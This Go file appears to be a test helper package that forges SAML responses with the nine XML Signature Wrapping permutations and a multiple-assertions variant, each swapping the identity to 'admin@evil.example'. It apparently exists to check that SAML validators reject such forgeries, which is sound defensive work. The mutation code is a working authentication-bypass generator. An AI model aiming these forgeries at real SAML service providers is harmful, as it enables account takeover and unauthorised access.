package samlxmltest

import (
	"github.com/beevik/etree"
)

// EvilNameID is the identity the hostile builders put in the copies they
// forge.
const EvilNameID = "admin@evil.example"

// Mutate parses a document, lets f change it, and writes it back. An f
// that changes nothing keeps every signature valid.
func Mutate(xml []byte, f func(doc *etree.Document)) []byte {
	doc := etree.NewDocument()
	must(doc.ReadFromBytes(xml))
	f(doc)
	out, err := doc.WriteToBytes()
	must(err)
	return out
}

// Find returns root and its descendants whose local name is local, in
// document order, whatever their namespace.
func Find(root *etree.Element, local string) []*etree.Element { return findAll(root, local) }

// First is Find's first element, or nil.
func First(root *etree.Element, local string) *etree.Element {
	if all := findAll(root, local); len(all) > 0 {
		return all[0]
	}
	return nil
}

// ChildSignature returns el's own Signature child, or nil.
func ChildSignature(el *etree.Element) *etree.Element {
	for _, c := range el.ChildElements() {
		if c.Tag == "Signature" {
			return c
		}
	}
	return nil
}

// forge makes every NameID in el say EvilNameID.
func forge(el *etree.Element) {
	for _, n := range findAll(el, "NameID") {
		n.SetText(EvilNameID)
	}
}

func setID(el *etree.Element, id string) { el.CreateAttr("ID", id) }

func removeSignature(el *etree.Element) {
	if s := ChildSignature(el); s != nil {
		el.RemoveChild(s)
	}
}

// XSW returns the signature wrapping permutation n (1 to 9) of a signed
// Response, numbered as SAMLRaider and crewjam/saml's
// TestXswPermutation* do (Somorovsky et al., "On Breaking SAML", USENIX
// Security 2012). Each forged copy says EvilNameID. Permutations 1 and 2
// need a signed Response, 3 to 9 a signed Assertion.
//
//  1. The Response is forged under a new ID; the original, signed one is
//     moved into its Signature.
//  2. As 1, with the original placed before the Signature.
//  3. A forged unsigned Assertion with a new ID before the signed one.
//  4. A forged Assertion with a new ID wrapping the signed one.
//  5. The signed Assertion is forged in place under a new ID keeping its
//     Signature; an unsigned copy of the original is appended.
//  6. As 5, with the unsigned original placed inside the Signature.
//  7. An Extensions element before the Assertion holds a forged copy.
//  8. The Assertion is forged in place; the original, unsigned, goes
//     into an Object inside its Signature.
//  9. The Assertion is forged under a new ID; its Signature gets a second
//     SignedInfo, and the original goes into a Wrapper after it
//     (CVE-2019-3465 class).
func XSW(n int, signed []byte) []byte {
	return Mutate(signed, func(doc *etree.Document) {
		resp := doc.Root()
		assertion := First(resp, "Assertion")
		switch n {
		case 1, 2:
			original := resp.Copy()
			removeSignature(original)
			forge(resp)
			setID(resp, "_evil_response")
			sig := ChildSignature(resp)
			if n == 1 {
				sig.AddChild(original)
			} else {
				resp.InsertChildAt(sig.Index(), original)
			}
		case 3, 4:
			evil := assertion.Copy()
			removeSignature(evil)
			forge(evil)
			setID(evil, "_evil_assertion")
			if n == 3 {
				resp.InsertChildAt(assertion.Index(), evil)
			} else {
				resp.RemoveChild(assertion)
				resp.AddChild(evil)
				evil.AddChild(assertion)
			}
		case 5, 6:
			original := assertion.Copy()
			removeSignature(original)
			forge(assertion)
			setID(assertion, "_evil_assertion")
			if n == 5 {
				resp.AddChild(original)
			} else {
				ChildSignature(assertion).AddChild(original)
			}
		case 7:
			ext := etree.NewElement("Extensions")
			resp.InsertChildAt(assertion.Index(), ext)
			evil := assertion.Copy()
			removeSignature(evil)
			forge(evil)
			ext.AddChild(evil)
		case 8:
			original := assertion.Copy()
			removeSignature(original)
			forge(assertion)
			obj := ChildSignature(assertion).CreateElement("Object")
			obj.AddChild(original)
		case 9:
			original := assertion.Copy()
			forge(assertion)
			setID(assertion, "_evil_assertion")
			sig := ChildSignature(assertion)
			second := First(sig, "SignedInfo").Copy()
			for _, ref := range findAll(second, "Reference") {
				ref.CreateAttr("URI", "#_evil_assertion")
			}
			sig.InsertChildAt(First(sig, "SignatureValue").Index()+1, second)
			wrapper := resp.CreateElement("Wrapper")
			wrapper.AddChild(original)
		default:
			panic("samlxmltest: XSW permutations are 1 to 9")
		}
	})
}

// MultipleAssertions appends a forged, unsigned copy of the Assertion
// after the signed one (CVE-2022-41912, GHSA-j2jp-wvqg-wc2g; SAMLRaider
// PR 98).
func MultipleAssertions(signed []byte) []byte {
	return Mutate(signed, func(doc *etree.Document) {
		resp := doc.Root()
		evil := First(resp, "Assertion").Copy()
		removeSignature(evil)
		forge(evil)
		setID(evil, First(resp, "Assertion").SelectAttrValue("ID", "")+"_attack")
		resp.AddChild(evil)
	})
}
